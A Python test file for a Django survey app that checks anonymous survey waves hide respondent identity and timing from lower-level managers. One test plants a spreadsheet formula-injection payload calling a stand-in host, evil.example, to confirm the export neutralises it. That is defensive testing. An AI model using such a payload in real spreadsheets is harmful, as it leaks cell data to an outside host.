"""Anonymous waves below the city (issue 13): no view or export may tie an answer, or its timing, to a shop."""

import io
import random

import pytest
from openpyxl import load_workbook

from serviceloop.surveys.demo import fill_answers
from serviceloop.surveys.models import Answer, AnswerStatus, Item, ItemKind, Reminder, WaveTarget

from .conftest import NOW, make_wave

pytestmark = pytest.mark.django_db


def sheet(response):
    wb = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    return [list(r) for r in wb.worksheets[0].iter_rows(values_only=True)]


def half_answered(world, **kwargs):
    """An anonymous wave where only the first shop of each route answered."""
    wave = make_wave(world, name="匿名调查", anonymous=True, **kwargs)
    targets = WaveTarget.objects.filter(wave=wave).order_by("customer__licence_no")
    first = {}
    for t in targets:
        first.setdefault(t.route_id, t)
    fill_answers(wave=wave, targets=list(first.values()), rng=random.Random(1), seed=1, moment=NOW)
    return wave, list(first.values())


def test_the_raw_answers_of_a_small_group_are_not_exported_below_the_city(world, login):
    wave, _answered = half_answered(world)
    head = login(world.station_head)  # station A1: two routes, two answers — a group of two
    rows = sheet(head.get(f"/surveys/{wave.pk}/answers.xlsx"))
    assert len(rows) == 1  # the header only: a group under five answers shows nothing
    assert "提交时间" not in rows[0]


def test_the_raw_answers_export_below_the_city_has_no_time_and_no_small_station(big_world, login):
    wave = make_wave(big_world, name="匿名调查", anonymous=True)
    targets = list(WaveTarget.objects.filter(wave=wave).order_by("id"))
    a2 = [t for t in targets if t.station_id == big_world.station_a2.pk][:2]  # only two shops of station A2
    a1 = [t for t in targets if t.station_id == big_world.station_a1.pk]
    fill_answers(wave=wave, targets=a1 + a2, rng=random.Random(2), seed=2, moment=NOW)
    rows = sheet(login(big_world.branch_manager).get(f"/surveys/{wave.pk}/answers.xlsx"))
    header, body = rows[0], rows[1:]
    assert "提交时间" not in header
    station = header.index("服务站")
    stations = {r[station] for r in body}
    assert big_world.station_a1.name in stations and big_world.station_a2.name not in stations
    assert len(body) == len(a1) + len(a2)  # nothing dropped: the small station's rows only lose the name


def test_the_progress_list_does_not_name_the_shops_that_answered_below_the_city(world, login):
    wave, answered = half_answered(world)
    head = login(world.station_head)
    page = head.get(f"/surveys/{wave.pk}/progress/").content.decode()
    assert "已作答" not in page.split('data-testid="target-table"')[1].split("</table>")[0]
    # filtering by state is ignored: every shop of the scope is listed either way
    done = head.get(f"/surveys/{wave.pk}/progress/", {"state": "done"}).content.decode()
    pending = head.get(f"/surveys/{wave.pk}/progress/", {"state": "pending"}).content.decode()
    for shop in world.shops["张湾1号线"] + world.shops["张湾2号线"]:
        assert shop.name in done and shop.name in pending
    rows = sheet(head.get(f"/surveys/{wave.pk}/progress/", {"export": "1"}))
    assert "已作答" not in rows[0] and "催答次数" not in rows[0]
    # the city still sees who answered
    city = login(world.city_admin).get(f"/surveys/{wave.pk}/progress/", {"state": "done"}).content.decode()
    assert answered[0].customer.name in city


def test_the_reminder_button_answers_alike_for_shops_that_did_and_did_not_answer(world, login):
    wave, answered = half_answered(world)
    head = login(world.station_head)
    did = answered[0]
    did_not = WaveTarget.objects.filter(wave=wave, route=did.route).exclude(pk=did.pk).first()
    texts = []
    for target in (did, did_not):
        response = head.post(f"/surveys/{wave.pk}/targets/{target.pk}/remind/", follow=True)
        texts.append(response.content.decode().count("已记录对"))
    assert texts[0] == texts[1] == 1
    assert not Reminder.objects.filter(target=did).exists()


def test_free_text_with_formula_payloads_is_inert_in_answers_xlsx(world, login):
    wave = make_wave(world, name="公开调查")
    text_item = Item.objects.filter(section__questionnaire=wave.questionnaire, kind=ItemKind.TEXT).first()
    if text_item is None:
        pytest.skip("the built-in questionnaire has no free-text item")
    target = WaveTarget.objects.filter(wave=wave).first()
    payload = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    Answer.objects.create(
        wave=wave, target=target, customer=target.customer, status=AnswerStatus.SUBMITTED, channel="qr",
        started_at=NOW, updated_at=NOW, submitted_at=NOW, values={text_item.code: payload},
    )  # fmt: skip
    wb = load_workbook(
        io.BytesIO(
            b"".join(login(world.city_admin).get(f"/surveys/{wave.pk}/answers.xlsx").streaming_content)
        )
    )
    cells = [
        c
        for row in wb.worksheets[0].iter_rows()
        for c in row
        if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert cells and all(c.data_type == "s" and not c.value.startswith("=") for c in cells)
